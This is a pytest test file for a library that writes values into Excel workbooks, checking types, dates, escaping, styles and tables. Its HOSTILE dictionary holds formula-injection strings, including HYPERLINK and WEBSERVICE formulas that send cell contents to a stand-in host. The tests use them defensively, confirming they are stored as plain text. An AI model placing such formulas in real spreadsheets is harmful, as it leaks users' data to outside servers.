"""set_cells: values read back by openpyxl (an independent reader), nothing else changed."""

from __future__ import annotations

import datetime as dt
import io
import re

import openpyxl
import pytest

from xlplan.ooxml import Package

from .conftest import EXCEL, members
from .sources import shared_formula_workbook

SHEET = "4-2入力"
SHEET_PART = "xl/worksheets/sheet2.xml"

HOSTILE = {
    (4, 21): '=HYPERLINK("http://example.invalid/?q="&F6,"61%")',
    (4, 22): "＝WEBSERVICE(\"http://example.invalid/\"&A1)",
    (4, 23): "+1",
    (4, 24): "-1",
    (4, 25): "@x",
    (4, 26): "=1/0",
    (4, 27): "'=quoted",
    (4, 28): "=SUM(A1:A3)",
}


def load(data: bytes, **kw: object) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), **kw)  # type: ignore[arg-type]


def test_formula_looking_strings_stay_text(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, HOSTILE)
    out = pkg.to_bytes()
    ws = load(out)[SHEET]
    for (r, c), text in HOSTILE.items():
        cell = ws.cell(r, c)
        assert cell.value == text
        assert cell.data_type == "s", cell.coordinate
    assert "<f>" not in members(out)[SHEET_PART].decode()
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


def test_untouched_parts_identical_and_styles_kept(template_bytes: bytes) -> None:
    before = members(template_bytes)
    wb0 = load(template_bytes)
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(4, 21): 0.75, (5, 21): "計算値", (6, 22): True})
    out = pkg.to_bytes()
    after = members(out)
    changed = {n for n in before if before[n] != after.get(n)}
    assert changed == {SHEET_PART}
    assert list(after) == list(before)
    ws0, ws1 = wb0[SHEET], load(out)[SHEET]
    for coord in ("U4", "U5", "V6"):
        assert ws1[coord].style_id == ws0[coord].style_id
        assert ws1[coord].number_format == ws0[coord].number_format
        assert ws1[coord].fill.fgColor.rgb == ws0[coord].fill.fgColor.rgb
        assert ws1[coord].font.b == ws0[coord].font.b
    assert ws1["U4"].value == 0.75 and ws1["U5"].value == "計算値" and ws1["V6"].value is True


def test_every_cell_of_every_sheet_unchanged_but_the_written(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(4, 21): "x", (60, 3): 5})
    wb0, wb1 = load(template_bytes), load(pkg.to_bytes())
    for ws0 in wb0.worksheets:
        ws1 = wb1[ws0.title]
        for row in ws0.iter_rows():
            for c0 in row:
                if ws0.title == SHEET and c0.coordinate in ("U4", "C60"):
                    continue
                c1 = ws1[c0.coordinate]
                assert (c1.value, c1.data_type, c1.style_id) == \
                    (c0.value, c0.data_type, c0.style_id), (ws0.title, c0.coordinate)


def test_types_numbers_bools_none(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    values = {(4, 21): 1, (4, 22): -2.5, (4, 23): 1e300, (4, 24): 0.1 + 0.2,
              (4, 25): False, (4, 26): 2**53, (4, 27): 123456789012}
    pkg.set_cells(SHEET, values)
    ws = load(pkg.to_bytes())[SHEET]
    for (r, c), v in values.items():
        got = ws.cell(r, c).value
        assert got == v and type(got) is type(v), (r, c, got)
    pkg.set_cells(SHEET, {(4, 21): None})
    ws = load(pkg.to_bytes())[SHEET]
    assert ws.cell(4, 21).value is None
    assert ws.cell(4, 21).style_id == load(Package.read(template_bytes).to_bytes())[SHEET] \
        .cell(4, 21).style_id


@pytest.mark.parametrize("bad", [float("inf"), float("-inf"), float("nan"), 10**400])
def test_non_finite_refused(template_bytes: bytes, bad: float) -> None:
    pkg = Package.read(template_bytes)
    with pytest.raises(ValueError, match="4-2入力!U4"):
        pkg.set_cells(SHEET, {(4, 21): bad})
    assert pkg.to_bytes() == Package.read(template_bytes).to_bytes()


@pytest.mark.parametrize("bad", ["a\x00b", "\x0b", "x\x1f", "\ufffe", "\ud800"], ids=ascii)
def test_xml_illegal_text_refused(template_bytes: bytes, bad: str) -> None:
    with pytest.raises(ValueError, match="character U\\+"):
        Package.read(template_bytes).set_cells(SHEET, {(4, 21): bad})


def test_length_limit(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(4, 21): "あ" * 32767})
    assert load(pkg.to_bytes())[SHEET]["U4"].value == "あ" * 32767
    with pytest.raises(ValueError, match="32,767"):
        pkg.set_cells(SHEET, {(4, 21): "あ" * 32768})
    with pytest.raises(ValueError, match="32,768 characters"):  # UTF-16 units, as Excel counts
        pkg.set_cells(SHEET, {(4, 21): "a" * 32766 + "😀"})


def test_a_bad_value_changes_nothing(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    with pytest.raises(ValueError):
        pkg.set_cells(SHEET, {(4, 21): "ok", (4, 22): float("nan")})
    with pytest.raises(TypeError):
        pkg.set_cells(SHEET, {(4, 21): "ok", (4, 22): object()})  # type: ignore[dict-item]
    with pytest.raises(ValueError):
        pkg.set_cells(SHEET, {(0, 1): "x"})
    with pytest.raises(ValueError):
        pkg.set_cells(SHEET, {(1, 16385): "x"})
    assert pkg.to_bytes() == Package.read(template_bytes).to_bytes()


def test_whitespace_and_escapes(template_bytes: bytes) -> None:
    texts = [" lead", "trail ", "a\nb", "tab\tx", "cr\r\nlf", "two  spaces", "_x0041_",
             "_x005F_", "x_x000D_y", "  "]
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(10 + i, 21): t for i, t in enumerate(texts)})
    xml = members(pkg.to_bytes())[SHEET_PART].decode()
    assert "_x005F_x0041_" in xml and "_x005F_x005F_" in xml  # ST_Xstring escaping
    assert 'xml:space="preserve"><t' not in xml
    ws = load(pkg.to_bytes())[SHEET]
    for i, t in enumerate(texts):
        got = ws.cell(10 + i, 21).value
        # openpyxl does not decode _xHHHH_; decode per ECMA-376 §22.9.2.19 to compare
        got = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), got)
        assert got == t


def test_dates_1900_and_1904(template_bytes: bytes) -> None:
    values = {(4, 21): dt.date(2021, 3, 31), (4, 22): dt.datetime(2021, 3, 31, 12, 30),
              (4, 23): dt.date(1900, 2, 28), (4, 24): dt.date(1900, 3, 1)}
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, values)
    xml = members(pkg.to_bytes())[SHEET_PART].decode()
    assert re.search(r'<c r="W4"[^>]*><v>59</v>', xml)  # Excel's phantom 1900-02-29
    assert re.search(r'<c r="X4"[^>]*><v>61</v>', xml)
    ws = load(pkg.to_bytes())[SHEET]
    for (r, c), v in values.items():
        cell = ws.cell(r, c)
        assert cell.is_date
        got = cell.value
        assert got == (v if isinstance(v, dt.datetime) else dt.datetime.combine(v, dt.time()))
    with pytest.raises(ValueError, match="before 1900"):
        pkg.set_cells(SHEET, {(4, 21): dt.date(1899, 12, 31)})
    with pytest.raises(ValueError, match="time zone"):
        pkg.set_cells(SHEET, {(4, 21): dt.datetime(2021, 1, 1, tzinfo=dt.UTC)})

    p1904 = Package.read(EXCEL / "date_1904_02.xlsx")
    p1904.set_cells("Sheet1", {(10, 1): dt.date(2021, 3, 31)})
    cell = load(p1904.to_bytes())["Sheet1"]["A10"]
    assert cell.value == dt.datetime(2021, 3, 31)
    xml = members(p1904.to_bytes())["xl/worksheets/sheet1.xml"].decode()
    assert f"<v>{(dt.date(2021, 3, 31) - dt.date(1904, 1, 1)).days}</v>" in xml


def test_existing_date_format_is_kept(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_style(SHEET, [(4, 21)], number_format="yyyy年m月d日")
    pkg.set_cells(SHEET, {(4, 21): dt.date(2021, 4, 1)})
    assert load(pkg.to_bytes())[SHEET]["U4"].number_format == "yyyy年m月d日"


def test_new_cells_take_column_style_or_style_from(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(500, 3): "new", (500, 40): "far", (4, 21): "x"},
                  style_from={(500, 40): (3, 1)})
    xml = members(pkg.to_bytes())[SHEET_PART].decode()
    col = re.search(r'<col [^>]*min="3" max="3"[^>]*/>', xml)
    assert col is not None
    col_style = re.search(r'style="(\d+)"', col.group())
    a3 = re.search(r'<c r="A3" s="(\d+)"', xml)
    assert col_style is not None and a3 is not None
    assert re.search(rf'<c r="C500" s="{col_style.group(1)}" t="inlineStr">', xml)
    assert re.search(rf'<c r="AN500" s="{a3.group(1)}" t="inlineStr">', xml)
    rows = [int(r) for r in re.findall(r'<row r="(\d+)"', xml)]
    assert rows == sorted(rows) and len(rows) == len(set(rows))
    assert re.search(r'<dimension ref="A1:AN500"/>', xml)
    ws0, ws1 = load(template_bytes)[SHEET], load(pkg.to_bytes())[SHEET]
    assert ws1["AN500"].style_id == ws0["A3"].style_id
    assert ws1["AN500"].font.b and ws1["AN500"].font.name == ws0["A3"].font.name


def test_row_style_wins_over_column_style() -> None:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = "S"
    ws.column_dimensions["B"].font = Font(italic=True)
    ws.row_dimensions[2].font = Font(bold=True)
    ws["A1"] = 1
    buf = io.BytesIO()
    wb.save(buf)
    pkg = Package.read(buf.getvalue())
    pkg.set_cells("S", {(2, 2): "row", (3, 2): "col", (3, 3): "none"})
    ws1 = load(pkg.to_bytes())["S"]
    assert ws1["B2"].font.b and not ws1["B2"].font.i
    assert ws1["B3"].font.i and not ws1["B3"].font.b
    assert not ws1["C3"].font.b and not ws1["C3"].font.i


def test_shared_strings_never_renumbered() -> None:
    data = (EXCEL / "rich_string01.xlsx").read_bytes()
    pkg = Package.read(data)
    pkg.set_cells("Sheet1", {(1, 1): "replaced", (5, 1): "new"})
    out = members(pkg.to_bytes())
    assert out["xl/sharedStrings.xml"] == members(data)["xl/sharedStrings.xml"]
    wb = load(pkg.to_bytes(), rich_text=True)
    ws = wb["Sheet1"]
    assert ws["A1"].value == "replaced" and ws["A5"].value == "new"
    assert ws["A2"].value == "Bar"
    assert str(ws["A3"].value) == "abcdefg"
    assert type(ws["A3"].value).__name__ == "CellRichText"  # rich text kept


def test_overwriting_formulas_drops_calc_chain() -> None:
    data = (EXCEL / "formula_results01.xlsx").read_bytes()
    pkg = Package.read(data)
    pkg.set_cells("Sheet1", {(20, 1): "no formula touched"})
    assert "xl/calcChain.xml" in members(pkg.to_bytes())
    pkg.set_cells("Sheet1", {(1, 1): 5, (2, 1): "text"})
    out = members(pkg.to_bytes())
    assert "xl/calcChain.xml" not in out
    assert b"calcChain" not in out["[Content_Types].xml"]
    assert b"calcChain" not in out["xl/_rels/workbook.xml.rels"]
    ws = load(pkg.to_bytes())["Sheet1"]
    assert (ws["A1"].value, ws["A1"].data_type) == (5, "n")
    assert (ws["A2"].value, ws["A2"].data_type) == ("text", "s")
    assert ws["A3"].data_type == "f"  # the other formulas stay


def test_array_formula_master_and_members() -> None:
    data = (EXCEL / "array_formula01.xlsx").read_bytes()
    pkg = Package.read(data)
    with pytest.raises(ValueError, match="array formula in A1:A3"):
        pkg.set_cells("Sheet1", {(2, 1): 1})
    pkg.set_cells("Sheet1", {(1, 1): 7})
    ws = load(pkg.to_bytes())["Sheet1"]
    assert ws["A1"].value == 7
    assert "xl/calcChain.xml" not in members(pkg.to_bytes())


def test_shared_formula_group_is_unshared() -> None:
    data = shared_formula_workbook()
    for target, expect in (((1, 3), [5, "=A2+B2", "=A3+B3"]),
                           ((2, 3), ["=A1+B1", 5, "=A3+B3"])):
        pkg = Package.read(data)
        pkg.set_cells("S", {target: 5})
        ws = load(pkg.to_bytes())["S"]
        assert [ws.cell(r, 3).value for r in (1, 2, 3)] == expect
        assert 't="shared"' not in members(pkg.to_bytes())["xl/worksheets/sheet1.xml"].decode()


def test_table_header_follows_new_text(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(3, 28): "判定の根拠（改）", (3, 1): "ID\n番号"})
    out = members(pkg.to_bytes())
    table = out["xl/tables/table2.xml"].decode()
    assert 'name="判定の根拠（改）"' in table
    assert 'name="ID_x000A_番号"' in table
    ws = load(pkg.to_bytes())[SHEET]
    assert ws.tables["Input42"].tableColumns[0].name == "ID\n番号"  # openpyxl decodes it
    assert ws["A3"].value == "ID\n番号"
    with pytest.raises(ValueError, match="two columns named"):
        pkg.set_cells(SHEET, {(3, 27): "ID\n番号"})
    with pytest.raises(ValueError, match="must be text"):
        pkg.set_cells(SHEET, {(3, 27): 5})


def test_set_table_ref_grows_and_shrinks(template_bytes: bytes) -> None:
    pkg = Package.read(template_bytes)
    pkg.set_cells(SHEET, {(3, 29): "メモ"})
    pkg.set_table_ref(SHEET, "Input42", "A3:AC60")
    ws = load(pkg.to_bytes())[SHEET]
    t = ws.tables["Input42"]
    assert t.ref == "A3:AC60" and t.autoFilter.ref == "A3:AC60"
    assert [c.name for c in t.tableColumns][-2:] == ["判定の根拠", "メモ"]
    assert len({c.id for c in t.tableColumns}) == 29
    pkg.set_table_ref(SHEET, "input42", "A3:AB40")
    t = load(pkg.to_bytes())[SHEET].tables["Input42"]
    assert t.ref == "A3:AB40" and len(t.tableColumns) == 28
    with pytest.raises(ValueError, match="heading"):
        pkg.set_table_ref(SHEET, "Input42", "A3:AE40")
    with pytest.raises(KeyError):
        pkg.set_table_ref(SHEET, "Nope", "A3:AB40")


def test_excel_table_fixture_header() -> None:
    data = (EXCEL / "table05.xlsx").read_bytes()
    pkg = Package.read(data)
    pkg.set_cells("Sheet1", {(3, 3): "Renamed", (4, 3): 1})
    out = members(pkg.to_bytes())
    assert 'name="Renamed"' in out["xl/tables/table1.xml"].decode()
    for part in ("xl/comments1.xml", "xl/drawings/vmlDrawing1.vml", "xl/drawings/drawing1.xml",
                 "xl/media/image1.png", "xl/sharedStrings.xml"):
        assert out[part] == members(data)[part]


def test_deterministic(template_bytes: bytes) -> None:
    def run() -> bytes:
        pkg = Package.read(template_bytes)
        pkg.set_cells(SHEET, HOSTILE)
        pkg.set_style(SHEET, [(4, 21)], fill_rgb="FFEEAA")
        return pkg.to_bytes()

    assert run() == run()


def test_write_follows_symlink(tmp_path: object, template_bytes: bytes) -> None:
    from pathlib import Path

    base = Path(str(tmp_path))
    real = base / "real.xlsx"
    real.write_bytes(template_bytes)
    link = base / "link.xlsx"
    link.symlink_to(real)
    pkg = Package.read(link)
    pkg.set_cells(SHEET, {(4, 21): "via link"})
    pkg.write(link)
    assert link.is_symlink()
    assert load(real.read_bytes())[SHEET]["U4"].value == "via link"
